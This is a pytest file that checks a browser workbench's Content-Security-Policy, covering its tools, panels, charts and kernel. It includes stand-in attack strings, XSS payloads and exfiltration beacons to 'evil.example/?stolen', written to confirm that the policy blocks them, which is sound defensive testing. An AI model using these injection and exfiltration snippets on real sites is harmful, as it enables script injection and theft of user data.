"""The page under the companion's policy: the page doesn't violate it, and violations are blocked."""

from __future__ import annotations

import itertools
import json
import time
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest

from gemini_companion.admission.guard import Guard
from gemini_companion.serving.policy import Policies, surface_headers
from gemini_companion.serving.server import running
from gemini_companion.serving.static_files import (
    HEADERS,
    KERNEL_FILES,
    Folder,
    StaticFiles,
    framed_by,
    kernel_headers,
    sites_url,
)
from gemini_testing import Surface
from gemini_testing.pool import BrowserPool
from tests.attacks.listener import fenced_listener
from tests.companions import server_on_used_ports
from tests.web.console import empty_console, enter
from tests.web.person import TERMINALS, Person

pytestmark = pytest.mark.extended

REPORTS = "/reports"
NUMBERS = itertools.count()


@dataclass
class Reporting:
    """Collects browsers' reports of violations (https://www.w3.org/TR/CSP3/#directive-report-uri)."""

    app: Any
    reports: list[dict[str, Any]]

    async def __call__(self, scope: Any, receive: Any, send: Any) -> None:
        if scope["type"] == "http" and scope["path"] == REPORTS:
            body = (await receive())["body"]
            self.reports.append(json.loads(body)["csp-report"])
            await send({"type": "http.response.start", "status": 204, "headers": []})
            await send({"type": "http.response.body"})
            return

        async def reporting(message: Any) -> None:
            policy = b"content-security-policy"
            named = [
                (k, v + b"; report-uri " + REPORTS.encode() if k == policy else v)
                for k, v in message.get("headers", [])
            ]
            await send({**message, "headers": named} if named else message)

        await self.app(scope, receive, reporting)


@dataclass
class Served:
    surface: Surface
    reports: list[dict[str, Any]]

    def stopped(self) -> list[tuple[str, str]]:
        """Return the violations since the last call, by provoking one more and waiting for its report."""
        # A browser reports the same violation only once.
        last = f"http://127.0.0.1:1/{next(NUMBERS)}"
        # An <object> loads only after the page's layout.
        laid_out = "await new Promise((done) => requestAnimationFrame(() => setTimeout(done)));"
        self.surface.javascript(f"{laid_out} new Image().src = arguments[0]", last)
        deadline = time.monotonic() + 20
        while not any(each["blocked-uri"] == last for each in self.reports):
            assert time.monotonic() < deadline, f"the browser doesn't report: {self.reports}"
            self.surface.javascript("await fetch('/tools.json', { method: 'HEAD' })")
        violations = [(each["effective-directive"], each["blocked-uri"]) for each in self.reports]
        self.reports.clear()
        return [each for each in violations if not each[1].startswith("http://127.0.0.1:1/")]


@pytest.fixture(scope="module")
def served(surface_dist: Path, browsers: BrowserPool) -> Iterator[Served]:
    server = server_on_used_ports()
    folder, sites = Folder(surface_dist), Folder(surface_dist / "site")
    folder.sites = sites_url(server.sites.number)
    folder.kernel = server.kernel.url
    app = Guard(StaticFiles(folder, Policies()), hosts=server.main.hosts, headers=surface_headers())
    of_sites = Guard(
        StaticFiles(sites),
        hosts=server.sites.hosts,
        labels_of=[f"localhost:{server.sites.number}"],
        headers=HEADERS | framed_by(server.main.number),
    )
    of_kernel = Guard(
        StaticFiles(Folder(surface_dist, KERNEL_FILES)),
        hosts=server.kernel.hosts,
        headers=kernel_headers(server.main.number),
    )
    reports: list[dict[str, Any]] = []
    driver = browsers.take()
    try:
        with running(
            server, Reporting(app, reports), kernel=Reporting(of_kernel, reports), sites=of_sites
        ) as url:
            surface = Surface(driver, url)
            surface.load()
            yield Served(surface, reports)
            driver.get("about:blank")
    finally:
        browsers.give_back(driver)


def test_page_and_kernel_start_isolated(served: Served) -> None:
    assert served.surface.javascript("return crossOriginIsolated")
    assert served.surface.python("import js; js.crossOriginIsolated")
    assert served.stopped() == []


def test_tools_do_not_violate_the_policy(served: Served) -> None:
    surface, call = served.surface, served.surface.call
    assert call("terminal_execute", command="echo hi | tr h H; python -c 'print(1+1)'")["output"] == "Hi\n2\n"
    page = "<title>Site</title><h1>Here</h1><input type=checkbox>"
    call("file_write", path="/project/site/index.html", content=page)
    sites: str = surface.javascript("return (await (await fetch('/serving.json')).json()).sites")
    opened = call("browser_navigate", url="/project/site/index.html")
    assert opened["title"] == "Site" and opened["url"].partition(".")[2].startswith(sites.partition(".")[2])
    assert "Here" in call("browser_get_text")["text"]
    assert call("browser_click", selector="input")["success"]
    assert call("browser_screenshot")["width"] > 0
    call("browser_tabs", action="focus", tab="page")
    assert call("browser_screenshot")["width"] > 0
    assert "Workbench" in json.dumps(call("browser_snapshot"))
    # The kernel's Python may evaluate JavaScript, and the page's script may after consent.
    assert surface.python("from pyodide.code import run_js; run_js('6 * 7')") == 42
    [site] = [row["id"] for row in call("browser_tabs") if row["title"] == "Site"]
    assert call("browser_execute_js", code="return 6 * 7", tab=site) == {"result": 42}
    assert served.stopped() == []


def test_panels_do_not_violate_the_policy(served: Served) -> None:
    surface, person = served.surface, Person(served.surface)
    panels = "[...document.querySelectorAll('#panels-menu [aria-pressed]')].map(({ value }) => value)"
    person.click('button "More"')
    names: list[str] = surface.javascript(f"return {panels}")
    assert len(names) >= 6
    person.click('button "More"')
    for name in names:
        person.open_panel(name)
        # Any of the terminals stands for them.
        assert person.shows(name) if name == TERMINALS else person.sees(f"#{name}")
    assert served.stopped() == []


def test_images_and_files_use_blob_addresses(served: Served) -> None:
    read = (
        "const url = URL.createObjectURL(new Blob(['<svg xmlns=\"http://www.w3.org/2000/svg\"/>'], "
        "{ type: 'image/svg+xml' }));"
        "await new Promise((onload, onerror) => Object.assign(new Image(), { onload, onerror, src: url }));"
        "return (await (await fetch(url)).text()).length"
    )
    assert served.surface.javascript(read) == 41
    assert served.stopped() == []


# A figure of plotly and a chart of Vega-Lite, in the forms that their libraries make (test_display.py).
CHARTS = {
    "application/vnd.plotly.v1+json": {
        "data": [{"type": "bar", "y": [1, 3, 2]}],
        "layout": {"title": {"text": "Bars"}},
    },
    "application/vnd.vegalite.v6+json": {
        "$schema": "https://vega.github.io/schema/vega-lite/v6.4.1.json",
        "data": {"values": [{"a": 1, "b": 2}, {"a": 2, "b": 3}]},
        "mark": "point",
        "encoding": {
            "x": {"field": "a", "type": "quantitative"},
            "y": {"field": "b", "type": "quantitative"},
        },
        "title": "Points",
    },
}
BUNDLED = """class Chart:
    def _repr_mimebundle_(self):
        return {{{media_type!r}: {specification!r}}}
Chart()"""


def show_chart(person: Person, media_type: str, specification: object) -> None:
    enter(person, BUNDLED.format(media_type=media_type, specification=specification))


def in_chart(surface: Surface, script: str) -> Any:
    """Run a script in the frame of the last chart, as if it were the chart's own."""
    driver = surface.driver
    try:
        for selector in (".console-entry:last-of-type .chart iframe", "iframe"):
            driver.switch_to.frame(driver.find_element("css selector", selector))
        return driver.execute_script(script)
    finally:
        driver.switch_to.default_content()


@pytest.mark.parametrize("media_type", CHARTS)
def test_charts_are_drawn_under_the_policy(served: Served, media_type: str) -> None:
    person = Person(served.surface)
    with empty_console(person):
        show_chart(person, media_type, CHARTS[media_type])
        served.surface.wait_for("document.querySelector('.chart')?.dataset.height")
        drawn = in_chart(
            served.surface, "return [document.querySelectorAll('svg path').length > 3, self.origin]"
        )
        assert drawn == [True, "null"]
        person.click('button "Open the chart"')
        person.sees('region "Figure" .chart[data-height]')
        assert served.stopped() == []


def test_a_chart_reaches_nothing_and_runs_nothing(served: Served) -> None:
    person = Person(served.surface)
    with fenced_listener() as listener, empty_console(person):
        attack = (
            f"<img src=x onerror='hacked = 1'><a href='{listener.url}/a'>a</a><script>hacked = 1</script>"
        )
        picture = {"source": f"{listener.url}/image", "sizex": 1, "sizey": 1}
        figure = {
            "data": [{"type": "bar", "y": [1], "text": attack, "hovertemplate": attack}],
            "layout": {"title": {"text": attack}, "images": [picture]},
        }
        show_chart(person, "application/vnd.plotly.v1+json", figure)
        served.surface.wait_for("document.querySelector('.chart')?.dataset.height")
        assert in_chart(served.surface, "return globalThis.hacked === undefined")
        # Even a script that came to run could neither run more, nor send anything, nor leave. The driver's code may do
        # more than a page's, but not code that it calls later.
        escape = (
            "setTimeout(() => { fetch(`${url}/fetch`).catch(() => 0); new Image().src = `${url}/picture`;"
            "document.body.append(Object.assign(document.createElement('iframe'), { src: `${url}/frame` }));"
            "try { new Function('globalThis.hacked = 1')() } catch { globalThis.refused = 1 } })"
        )
        in_chart(served.surface, f"const url = {listener.url!r}; {escape}")
        done = "return new Promise((done) => setTimeout(() => done([globalThis.hacked, globalThis.refused])))"
        assert in_chart(served.surface, done) == [None, 1]
        in_chart(served.surface, f"setTimeout(() => (location.href = '{listener.url}/away'))")
        # Chromium shows its error page in the frame that may not leave.
        frame = "document.querySelector('.chart iframe').contentDocument.querySelector('iframe')"
        served.surface.wait_for(f"{frame}.contentWindow.length === 0")
        served.stopped()
        # Chromium connects before it asks the policy where a frame may go; nothing is sent.
        assert set(listener.seen) <= {"connection"}


def test_a_chart_that_fails_or_loads_says_why(served: Served) -> None:
    person = Person(served.surface)
    with empty_console(person):
        given = {
            **CHARTS["application/vnd.vegalite.v6+json"],
            "data": {"url": "https://evil.example/data.json"},
        }
        show_chart(person, "application/vnd.vegalite.v6+json", given)
        person.sees(".chart", "The chart can't be drawn: charts here load no data by address")
    served.stopped()


SCRIPT = "document.body.append(Object.assign(document.createElement('script'), { %s }))"
FRAGMENT = "document.body.insertAdjacentHTML('beforeend', '%s')"


@pytest.mark.parametrize(
    ("attempt", "directive"),
    [
        (SCRIPT % "textContent: 'hacked = 1'", "script-src-elem"),
        (SCRIPT % "src: 'https://evil.example/'", "script-src-elem"),
        (FRAGMENT % '<img src=data: onerror="hacked = 1">', "script-src-attr"),
        (FRAGMENT % "<object data=/tools.json></object>", "object-src"),
        ("try { await import('data:text/javascript,globalThis.hacked=1') } catch {}", "script-src-elem"),
        ("await fetch('https://evil.example/?stolen').catch(() => 0)", "connect-src"),
        ("try { new WebSocket('ws://evil.example/') } catch {}", "connect-src"),
        ("new Image().src = 'https://evil.example/?stolen'", "img-src"),
    ],
)
def test_violations_are_blocked(served: Served, attempt: str, directive: str) -> None:
    served.surface.javascript(attempt)
    assert directive in [each[0] for each in served.stopped()]
    assert served.surface.javascript("return globalThis.hacked === undefined")
